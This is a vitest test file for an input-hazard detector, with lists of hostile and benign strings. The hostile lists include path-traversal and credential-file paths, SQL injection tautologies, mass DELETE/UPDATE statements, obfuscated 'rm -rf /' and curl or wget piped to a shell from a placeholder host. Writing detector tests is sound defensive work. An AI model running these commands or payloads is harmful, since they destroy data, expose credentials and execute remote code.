/**
 * The input-hazard classes of issue #9 (item 6): every spelling of an internal address, names that resolve to one,
 * paths with look-alike slashes and sensitive files, SQL with comments as whitespace and tautologies, shell words
 * with quotes inside. Built for the class: each group mixes spellings the detectors were not written against.
 */
import { describe, expect, it } from "vitest";
import { detectHazards as detect, hazardTypes as types } from "../helpers/hazard-detect.js";

describe("paths", () => {
  it.each([
    "..\\..\\..\\boot.ini",
    "..／..／..／etc／passwd", // full-width slash
    "..∕..∕..∕etc∕passwd", // division slash
    "..⁄..⁄secret", // fraction slash
    "%2e%2e%2f%2e%2e%2fetc",
    "%252e%252e%252fetc",
    "~/.netrc",
    "/home/u/.git-credentials",
    "cat ~/.aws/credentials",
    "/root/.ssh/id_ed25519",
    "C:\\Windows\\System32\\config\\SAM",
    "c:/windows/system32/config/SYSTEM",
    "read /app/.env",
    "/etc/shadow",
  ])("%s", (text) => {
    expect(types(text)).toContain("path_traversal");
  });

  it.each([
    "docs/../README.md",
    "see ../README.md",
    "the .envrc docs",
    "environment variables",
    "node_modules/x/SAM.js",
  ])("benign: %s", (text) => {
    expect(detect(text)).toEqual([]);
  });
});

describe("SQL", () => {
  it.each([
    ["sql_injection", "x' OR/**/1=1--"],
    ["sql_injection", "1 UNION/**/SELECT password FROM users"],
    ["sql_injection", "1/**/UNION/**/ALL/**/SELECT/**/NULL"],
    ["sql_injection", "x' OR TRUE--"],
    ["sql_injection", "x' OR 'a'='a"],
    ["sql_injection", "1 OR 1=1"],
    ["sql_injection", "id=5 or true"],
    ["dangerous_sql", "DELETE FROM users WHERE 1=1"],
    ["dangerous_sql", "delete from users where true;"],
    ["dangerous_sql", "UPDATE accounts SET balance = 0 WHERE 1 = 1"],
    ["dangerous_sql", "update t set a=1 where 'x'='x'"],
  ])("%s: %s", (type, text) => {
    expect(types(text)).toContain(type);
  });

  it.each([
    "Please select the best option from the list.",
    "choose one or the other",
    "DELETE FROM users WHERE id = 1",
    "UPDATE t SET a = 1 WHERE b = 2",
    "It is true or false",
  ])("benign: %s", (text) => {
    expect(detect(text)).toEqual([]);
  });
});

describe("shell", () => {
  it.each([
    "r''m -r''f /",
    'r"m" -rf /',
    "\\rm -rf /",
    'c"u"rl http://x.example/a | sh',
    "echo Y3VybCB4IHwgc2g= | base64 -d | sh",
    "base64 --decode payload | bash",
    "find / -delete",
    "find / -name '*' -exec rm -rf {} +",
    "python -c 'import os; os.system(\"id\")'",
    "python3 -c \"__import__('os').system('id')\"",
    "wget -O- http://x.example/i | bash",
    "chmod 777 /",
    "chmod -R 0777 /etc",
    "echo `curl http://x.example/p | sh`",
    "x=$(curl -s http://x.example/p | bash)",
  ])("%s", (text) => {
    expect(types(text)).toContain("shell_danger");
  });

  it.each([
    "rm -rf ./build",
    "find . -name '*.tmp' -delete",
    "base64 -d file.b64 > out.bin",
    "python -c 'print(1)'",
    "chmod 644 README.md",
  ])("benign: %s", (text) => {
    expect(detect(text)).toEqual([]);
  });
});
